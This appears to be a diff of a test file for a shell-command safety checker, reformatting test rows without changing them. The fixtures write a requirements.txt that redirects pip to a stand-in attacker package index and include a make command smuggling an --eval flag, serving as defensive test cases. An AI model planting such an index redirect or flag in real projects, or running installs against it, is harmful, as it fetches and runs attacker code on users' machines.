@@ -273,8 +273,14 @@ table(
 table(
   "a requirements file and make's own flags stay judged as before",
   [
-    [write("requirements.txt", "--index-url https://attacker-cdn.net/simple\nrequests\n"), "pip install -r requirements.txt"],
-    [write("requirements.txt", "--index-url https://attacker-cdn.net/simple\nrequests\n"), "pip3 install -r requirements.txt"],
+    [
+      write("requirements.txt", "--index-url https://attacker-cdn.net/simple\nrequests\n"),
+      "pip install -r requirements.txt",
+    ],
+    [
+      write("requirements.txt", "--index-url https://attacker-cdn.net/simple\nrequests\n"),
+      "pip3 install -r requirements.txt",
+    ],
     "make MAKEFLAGS='--eval=x'",
   ],
   ["pip install -r requirements.txt", "mocha -r ts-node/register test"],
